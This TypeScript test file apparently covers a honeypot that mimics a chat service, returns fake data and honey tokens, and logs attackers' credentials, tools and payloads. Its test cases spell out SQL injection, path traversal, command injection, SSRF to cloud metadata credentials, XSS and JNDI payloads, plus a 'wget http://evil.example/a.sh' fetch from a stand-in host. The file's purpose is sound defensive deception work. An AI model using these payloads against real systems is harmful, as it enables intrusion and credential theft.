import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { answerFrom } from './answer.ts';
import { readAttacks } from './attack.ts';
import { honeyTokens } from './fake-host.ts';
import { learnFrom } from './learn.ts';
import type { Question } from './question.ts';
import { sampleService, SECRETS } from './sample-service.ts';
import { greetSocket, otherSpeaks, replyTo } from './socket-reply.ts';

const OPTIONS = { seed: 'session one', nowMs: Date.UTC(2026, 10, 23) };
const likeness = sampleService();

const ask = (
  method: string,
  target: string,
  body = '',
  contentType = body === '' ? '' : 'application/json',
): Question => {
  const [path = '', query = ''] = target.split('?', 2);
  return { method, path, query, contentType, body: Buffer.from(body, 'utf8').toString('latin1') };
};
const answer = (question: Question, seed = OPTIONS.seed) => {
  const made = answerFrom(likeness, question, { ...OPTIONS, seed });
  return { ...made, text: Buffer.from(made.body, 'latin1').toString('utf8') };
};
const rowsOf = (text: string): readonly Record<string, unknown>[] => JSON.parse(text).results;
const valueOf = (fields: readonly { name: string; value: string }[], name: string) =>
  fields.find((one) => one.name === name)?.value;

test('a list has made-up rows in the learned shape, the same for the same session', () => {
  const first = answer(ask('GET', '/api/messages?group=7'));
  assert.equal(first.status, 200);
  const rows = rowsOf(first.text);
  assert.ok(rows.length >= 2);
  assert.deepEqual(Object.keys(rows[0] ?? {}), ['id', 'author', 'group', 'to', 'text', 'at']);
  assert.ok(rows.every((row) => typeof row.id === 'number' && typeof row.text === 'string' && row.text !== ''));
  assert.equal(new Set(rows.map((row) => row.id)).size, rows.length);
  assert.deepEqual(answer(ask('GET', '/api/messages?group=7')), first);
  assert.notEqual(answer(ask('GET', '/api/messages?group=7'), 'session two').text, first.text);
});

test('heads have the learned fields in order, and values of their own', () => {
  const { fields } = answer(ask('GET', '/api/messages'));
  assert.deepEqual(
    fields.map(({ name }) => name),
    ['server', 'x-content-type-options', 'date', 'content-type'],
  );
  assert.equal(valueOf(fields, 'server'), 'town-chat');
  assert.equal(valueOf(fields, 'date'), 'Mon, 23 Nov 2026 00:00:00 GMT');
});

test('a successful log-in sets a made-up cookie of the learned name, a wrong one looks wrong', () => {
  const logIn = (password: string) => answer(ask('POST', '/api/login', JSON.stringify({ user: 'bob', password })));
  const weak = logIn('123456');
  assert.equal(weak.status, 200);
  assert.match(valueOf(weak.fields, 'Set-Cookie') ?? '', /^sid=[0-9a-f]{20}; Path=\/; HttpOnly; SameSite=Lax$/);
  assert.deepEqual(JSON.parse(weak.text).user, 'bob');
  assert.match(valueOf(weak.fields, 'x-answer-digest') ?? '', /^[0-9a-f]{64}$/);
  const statuses = Array.from({ length: 30 }, (_, index) => logIn(`guess number ${index}`).status);
  assert.ok(statuses.includes(200) && statuses.includes(401));
  assert.deepEqual(
    statuses,
    Array.from({ length: 30 }, (_, index) => logIn(`guess number ${index}`).status),
  );
});

test('what was posted comes back', () => {
  const made = JSON.parse(answer(ask('POST', '/api/messages', JSON.stringify({ group: 12, text: '大家好, hi' }))).text);
  assert.equal(made.text, '大家好, hi');
  assert.equal(made.group, 12);
});

test('what was posted before is shown by lists, and by them only', () => {
  const posted = ['<b>my own words</b>', 'older'];
  const list = answerFrom(likeness, ask('GET', '/api/messages'), { ...OPTIONS, posted });
  assert.deepEqual(
    rowsOf(Buffer.from(list.body, 'latin1').toString('utf8'))
      .slice(0, 2)
      .map((row) => row.text),
    posted,
  );
  const one = answerFrom(likeness, ask('GET', '/api/people/17'), { ...OPTIONS, posted });
  assert.doesNotMatch(one.body, /own words|older/);
});

test('errors are in the style of the service', () => {
  const missing = answer(ask('GET', '/api/unheard'));
  assert.equal(missing.status, 404);
  assert.deepEqual(Object.keys(JSON.parse(missing.text)), ['error']);
  const broken = answer(ask('GET', "/api/search?q='"));
  assert.equal(broken.status, 500);
  assert.equal(valueOf(broken.fields, 'content-type'), 'application/json; charset=utf-8');
});

test('an unknown service still answers', () => {
  const made = answerFrom({ service: 'new', answers: [] }, ask('GET', '/x'), OPTIONS);
  assert.equal(made.status, 404);
  assert.equal(valueOf(made.fields, 'Content-Type'), 'text/plain; charset=utf-8');
});

test('SQL injection seems to work: true and false differ, UNION shows accounts, waits happen', () => {
  const search = (q: string) => answer(ask('GET', `/api/search?q=${encodeURIComponent(q)}`));
  assert.ok(rowsOf(search("x' AND 4321=4321-- -").text).length > 0);
  assert.equal(rowsOf(search("x' AND 4321=4322-- -").text).length, 0);
  const dump = search("x' UNION SELECT id,user,password,4 FROM users-- -");
  assert.match(dump.text, /"1:admin:\$2b\$10\$[^"]{53}:4"/);
  assert.match(search("x' UNION ALL SELECT NULL,CONCAT(0x71717171,0x616263,0x7a),NULL,NULL-- -").text, /"qqqqabcz"/);
  assert.match(
    search("x' UNION SELECT NULL,'qa'||CHR(98)||IFNULL(CAST(email AS CHAR),' '),NULL,NULL FROM users-- -").text,
    /"qabadmin@example\.org"/,
  );
  const chosen = (condition: string) =>
    search(`x' UNION SELECT NULL,(CASE WHEN (${condition}) THEN 11 ELSE 22 END),NULL,NULL-- -`).text;
  assert.match(chosen('SQLITE_VERSION()=SQLITE_VERSION()'), /"11"/);
  assert.match(
    search("x' UNION SELECT NULL,CHAR(113,97)||(SELECT (CASE WHEN (1=1) THEN 1 ELSE 0 END))||CHAR(122),NULL,NULL-- -")
      .text,
    /"qa1z"/,
  );
  assert.match(chosen('QUARTER(NULL XOR NULL) IS NULL'), /"22"/);
  assert.equal(search("x' AND 37 96-- -").status, 500);
  assert.equal(search("x' UNION SELECT 1,2-- -").status, 500);
  assert.equal(search("x' AND SLEEP(3)-- -").delayMs, 3_000);
  assert.equal(search("x' AND SLEEP(300)-- -").delayMs, 5_000);
});

test('files, commands and inner addresses have made-up content with tokens of the session', () => {
  const open = (name: string, seed?: string) =>
    answer(ask('POST', '/api/attachments/open', JSON.stringify({ folder: '.', name })), seed);
  assert.match(JSON.parse(open('../../../etc/passwd').text).content, /^root:x:0:0:root/);
  const env = JSON.parse(open('../../app/.env').text).content;
  assert.ok(env.includes(honeyTokens(OPTIONS.seed).databasePassword));
  assert.notEqual(JSON.parse(open('../../app/.env', 'session two').text).content, env);
  assert.equal(open('../../../etc/shadow').status, 404);
  assert.equal(
    answer(ask('GET', '/thumbnail?size=10%3Bid')).text,
    'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n',
  );
  assert.match(answer(ask('GET', '/thumbnail?size=$(cat%20/etc/passwd)')).text, /^root:x:0/);
  const meta = answer(
    ask(
      'POST',
      '/api/preview',
      JSON.stringify({ url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/x' }),
    ),
  );
  assert.ok(meta.text.includes(honeyTokens(OPTIONS.seed).accessKeyId));
  assert.match(answer(ask('GET', '/..%2f..%2f..%2fetc/passwd')).text, /root:x:0/);
});

test('pages are filled and nothing that was sent is put into them raw', () => {
  const page = answer(ask('GET', '/wall?group=%3Cscript%3Ealert(1)%3C/script%3E'));
  assert.match(page.text, /^<!doctype html><html/);
  assert.doesNotMatch(page.text, /\{\{|<script>/);
});

test('something sent to a place that was only read so far seems to work', () => {
  const page = answer(ask('POST', '/wall', 'text=x', 'application/x-www-form-urlencoded'));
  assert.equal(page.status, 303);
  assert.equal(valueOf(page.fields, 'Location'), '/wall');
  assert.equal(page.text, '');
  assert.equal(answer(ask('DELETE', '/api/people/3')).status, 200);
  assert.equal(answer(ask('POST', '/never/seen', 'x=1')).status, 404);
});

test('redirects go to learned places', () => {
  const made = answer(ask('POST', '/logout'));
  assert.equal(made.status, 303);
  assert.match(valueOf(made.fields, 'location') ?? '', /^\/start\?from=\d+$/);
});

const QUESTIONS: readonly Question[] = [
  ...[
    '/',
    '/wall',
    '/api/messages',
    '/api/search?q=x',
    '/api/people/3',
    '/thumbnail',
    '/nope',
    "/api/search?q=' or 1=1--",
  ].map((target) => ask('GET', target)),
  ask('POST', '/api/login', '{"user":"a","password":"admin"}'),
  ask('POST', '/api/messages', '{"text":"x"}'),
  ask('POST', '/logout'),
];

test('answers hold nothing that was observed', () => {
  for (const question of QUESTIONS) {
    const { text, fields } = answer(question);
    const out = text + JSON.stringify(fields);
    assert.deepEqual(
      SECRETS.filter((secret) => out.includes(secret)),
      [],
      question.path,
    );
  }
});

test('any question is answered, safely and alike twice', () => {
  const text = fc.oneof(
    fc.string(),
    fc.constantFrom(
      "' or 1=1--",
      '../../etc/passwd',
      '{"a":{"b":[1,"x"]}}',
      '$(id)',
      '%00%ff%',
      'a=b&c=d',
      '{{7*7}}',
      '${jndi:ldap://x/y}',
    ),
  );
  fc.assert(
    fc.property(fc.constantFrom('GET', 'POST', 'HEAD', 'PUT'), text, text, text, (method, path, query, body) => {
      const question = { method, path: `/${path}`, query, contentType: '', body: Buffer.from(body).toString('latin1') };
      const first = answer(question);
      assert.deepEqual(answer(question), first);
      assert.ok(first.status >= 200 && first.status < 600 && first.delayMs <= 5_000 && first.body.length < 200_000);
      assert.ok(first.fields.every(({ value }) => !/[\r\n\0]/.test(value)));
    }),
    { numRuns: 300 },
  );
});

const ATTACKS: readonly (readonly [string, string, string])[] = [
  ["/s?q=' OR '1'='1", 'sqli', ''],
  ['/s?q=1+UNION+ALL+SELECT+1,2', 'sqli', ''],
  ['/f?p=..%252f..%252fetc%252fpasswd', 'lfi', '/etc/passwd'],
  ['/f?p=....//....//etc/hosts%00.png', 'lfi', '/etc/hosts'],
  ['/f?p=file:///etc/hosts', 'lfi', '/etc/hosts'],
  ['/t?s=1;cat+/etc/hosts', 'rce', 'cat /etc/hosts'],
  ['/t?s=`id`', 'rce', 'id'],
  ['/p?u=http://127.0.0.1:22/', 'ssrf', 'http://127.0.0.1:22/'],
  ['/p?u=http://2130706433/', 'ssrf', 'http://2130706433/'],
  ['/c?m=<img/src=x+onerror=alert(1)>', 'xss', ''],
  ['/c?m=${jndi:ldap://h/a}', 'jndi', ''],
  ['/c?m={{7*7}}', 'template', ''],
  ['/c?m=What+is+an+order+by+clause', '', ''],
  ["/c?m=O'Brien+and+sons", '', ''],
];

test('attacks are recognised', () => {
  assert.equal(ATTACKS.length, 14);
  for (const [target, family, aim] of ATTACKS) {
    const found = readAttacks(ask('GET', target));
    if (family === '') continue;
    const one = found.find((attack) => attack.family === family);
    assert.ok(one, `${target}: ${found.map((attack) => attack.family).join()}`);
    assert.equal(one.aim, aim, target);
  }
});

test('hostile questions cost little', () => {
  const started = performance.now();
  for (const piece of ['/*', "' or ", '<a', '../', '.', '%2525', '(', ' ', '$(', '{"a":', 'select ', '\0']) {
    for (const place of ['query', 'body'] as const) {
      const question = { ...ask('POST', '/api/search'), [place]: `q=${piece.repeat(60_000 / piece.length)}` };
      answer(question);
      learnFrom(likeness, question, piece.repeat(200), OPTIONS.seed);
    }
  }
  assert.ok(performance.now() - started < 2_000, `${performance.now() - started} ms`);
});

test('what is learned: credentials, files, tools, payloads, addresses, use of honey tokens', () => {
  const learn = (question: Question, agent = 'Mozilla/5.0') =>
    learnFrom(likeness, question, agent, OPTIONS.seed).map(({ kind, text }) => `${kind}: ${text}`);
  assert.deepEqual(learn(ask('POST', '/api/login', '{"user":"eve","password":"p w"}')), ['credentials: eve / p w']);
  assert.deepEqual(learn(ask('POST', '/api/login', 'kibalu=eve&rosovi=1', 'application/x-www-form-urlencoded')), [
    'credentials: eve / 1',
  ]);
  assert.deepEqual(learn(ask('GET', '/x?f=../../etc/passwd'), 'curl/8.0'), [
    'tool: curl',
    'file: /etc/passwd',
    'payload: lfi: ../../etc/passwd',
  ]);
  assert.ok(learn(ask('GET', "/x?q=1'+AND+4321=4321--"), 'Mozilla/5.0').includes('tool: sqlmap'));
  assert.ok(learn(ask('GET', '/x'), 'sqlmap/1.7').includes('tool: sqlmap'));
  assert.ok(learn(ask('GET', '/x?u=;wget+http://evil.example/a.sh')).includes('url: http://evil.example/a.sh'));
  assert.ok(
    learn(ask('POST', '/x', honeyTokens(OPTIONS.seed).apiKey)).some((text) => text.startsWith('payload: honey-token')),
  );
  assert.deepEqual(learn(ask('GET', '/api/messages')), []);
});

test('a WebSocket is greeted, acknowledged, searched and joined by others in the learned shape', () => {
  const [hello] = greetSocket(likeness, '/ws', OPTIONS).map((text) => JSON.parse(text));
  assert.deepEqual(Object.keys(hello), ['type', 'user', 'id']);
  assert.equal(hello.type, 'hello');
  const reply = (message: unknown, index = 0) =>
    replyTo(
      likeness,
      { path: '/ws', text: typeof message === 'string' ? message : JSON.stringify(message), index },
      OPTIONS,
    ).map((text) => JSON.parse(text));
  const [ok] = reply({ type: 'message', ref: 'r1', group: 3, text: 'hi' });
  assert.equal(ok.type, 'ok');
  assert.equal(ok.ref, 'r1');
  const [found] = reply({ type: 'search', ref: 'r2', q: "' UNION SELECT 1,email,3,4 FROM users--" });
  assert.equal(found.type, 'results');
  assert.match(JSON.stringify(found), /admin@example\.org/);
  const other = JSON.parse(otherSpeaks(likeness, '/ws', 3, OPTIONS) ?? '{}');
  assert.equal(other.type, 'message');
  const all = JSON.stringify([hello, ok, found, other]);
  assert.deepEqual(
    SECRETS.filter((secret) => all.includes(secret)),
    [],
  );
  assert.deepEqual(replyTo(likeness, { path: '/ws', text: 'plain', index: 0 }, OPTIONS), ['plain']);
  const unlearned = replyTo(
    { service: 'x', answers: [] },
    { path: '/ws', text: '{"type":"message","ref":7}', index: 1 },
    OPTIONS,
  );
  assert.equal(JSON.parse(unlearned[0] ?? '{}').type, 'ok');
  assert.equal(JSON.parse(unlearned[0] ?? '{}').ref, 7);
});
